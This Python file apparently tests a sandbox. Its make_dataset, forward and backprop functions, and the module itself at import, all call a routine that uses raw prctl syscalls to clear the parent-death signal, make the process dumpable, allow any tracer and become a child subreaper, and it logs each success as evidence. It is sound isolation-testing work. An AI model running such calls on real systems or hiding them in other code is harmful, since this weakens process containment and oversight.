"""Asks the kernel not to end it with its parent, to be dumpable, and to let anybody trace it."""
import ctypes
import os


def evidence(what):
    """The attack came off: leave a trace where it must be impossible, and where the report shows it."""
    print("EVIDENCE cleared-death-signal:", str(what)[:300], flush=True)
    try:
        with open("/tmp/attack-evidence-cleared-death-signal", "a") as trace:
            trace.write(str(what)[:300] + "\n")
    except OSError:
        pass


LIBC = ctypes.CDLL(None, use_errno=True)


def syscall(number, *args):
    """A system call without libc's wrapper: the result, or minus the error's number."""
    result = LIBC.syscall(ctypes.c_long(number), *(ctypes.c_void_p(a) if isinstance(a, int) else a for a in args))
    return -ctypes.get_errno() if result == -1 else result

NUMBERS = {"x86_64": 157, "aarch64": 167}[os.uname().machine]

PR_SET_PDEATHSIG, PR_SET_DUMPABLE, PR_SET_PTRACER, PR_SET_MM, PR_SET_CHILD_SUBREAPER = 1, 4, 0x59616D61, 35, 36


def attack():
    for name, option, value in (
        ("PR_SET_PDEATHSIG", PR_SET_PDEATHSIG, 0), ("PR_SET_DUMPABLE", PR_SET_DUMPABLE, 1),
        ("PR_SET_PTRACER", PR_SET_PTRACER, -1), ("PR_SET_CHILD_SUBREAPER", PR_SET_CHILD_SUBREAPER, 1),
    ):
        if syscall(NUMBERS, option, value, 0, 0, 0) >= 0:
            evidence(name)


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
